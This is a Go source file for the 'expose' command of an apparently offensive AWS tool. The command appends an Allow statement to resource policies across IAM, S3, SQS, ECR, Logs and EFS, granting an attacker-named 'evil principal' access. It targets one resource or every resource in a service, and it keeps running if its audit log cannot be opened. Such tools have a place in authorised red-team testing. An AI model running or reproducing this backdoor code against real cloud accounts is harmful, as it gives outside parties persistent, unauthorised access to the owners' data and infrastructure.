package cmd

import (
	"fmt"
	"strings"

	"github.com/spf13/cobra"

	"github.com/hotpatch-sec/creel/internal/cli"
	"github.com/hotpatch-sec/creel/internal/exposure"
	"github.com/hotpatch-sec/creel/internal/policy"
	"github.com/hotpatch-sec/creel/internal/store"
)

func NewExposeCmd() *cobra.Command {
	var profile string
	var region string
	var service string
	var name string
	var evilPrincipal string
	var sid string
	var workers int
	var dryRun bool

	cmd := &cobra.Command{
		Use:   "expose",
		Short: "Inject a grant for the evil principal into resource policies",
		Long: `Reads each target resource's policy, appends one Allow statement
granting the evil principal access, and writes the policy back. Existing
statements are never modified. Use --dry-run to see the mutated policy
without writing it.`,
		RunE: func(cmd *cobra.Command, args []string) error {
			ctx := cmd.Context()
			cfg, client, log, err := setup(ctx, profile, region)
			if err != nil {
				return err
			}

			principal := cfg.Principal(evilPrincipal)
			if principal == "" {
				return fmt.Errorf("an evil principal is required (--evil-principal or evil_principal in the config file)")
			}
			principal = policy.NormalizePrincipal(principal)

			cat := client.Catalog(service)
			if cat == nil {
				return fmt.Errorf("unsupported service %q (supported: %s)",
					service, strings.Join(client.Services(), ", "))
			}

			runner := &exposure.Runner{
				Log:     log,
				Workers: cfg.WorkerCount(workers),
				DryRun:  dryRun,
			}
			if !dryRun {
				db, err := store.Open(cfg.AuditDBPath())
				if err != nil {
					// The audit trail is best-effort; the run proceeds.
					log.Error("opening audit db", "error", err)
				} else {
					defer db.Close()
					runner.Sink = db
				}
			}

			var results []exposure.MutationResult
			if name == "" {
				results, err = runner.ExposeAll(ctx, cat, principal, sid)
				if err != nil {
					return fmt.Errorf("enumerating %s: %w", service, err)
				}
			} else {
				results = runner.Expose(ctx, cat, principal, sid, []string{name})
			}

			out := cmd.OutOrStdout()
			failures := 0
			for _, res := range results {
				fmt.Fprintf(out, "%s\t%s\t%s\n", cli.Outcome(res.Success), res.VictimARN, res.Message)
				if dryRun {
					updated, err := res.UpdatedPolicy.Marshal()
					if err == nil {
						fmt.Fprintf(out, "%s\n", cli.Dim(updated))
					}
				}
				if !res.Success {
					failures++
				}
			}
			fmt.Fprintf(out, "%d resource(s), %d failure(s)\n", len(results), failures)
			return nil
		},
	}

	cmd.Flags().StringVarP(&profile, "profile", "p", "", "AWS profile to use")
	cmd.Flags().StringVarP(&region, "region", "r", "", "AWS region to use")
	cmd.Flags().StringVarP(&service, "service", "s", "", "service whose resources to target (iam, s3, sqs, ecr, logs, elasticfilesystem)")
	cmd.Flags().StringVarP(&name, "name", "n", "", "single resource name to target (default: every resource of the service)")
	cmd.Flags().StringVarP(&evilPrincipal, "evil-principal", "e", "", "principal ARN or account id to grant access to")
	cmd.Flags().StringVar(&sid, "sid", "", "optional Sid for the injected statement")
	cmd.Flags().IntVar(&workers, "workers", 0, "concurrent resource pipelines")
	cmd.Flags().BoolVar(&dryRun, "dry-run", false, "compute and print the mutated policy without writing it")
	_ = cmd.MarkFlagRequired("service")

	return cmd
}
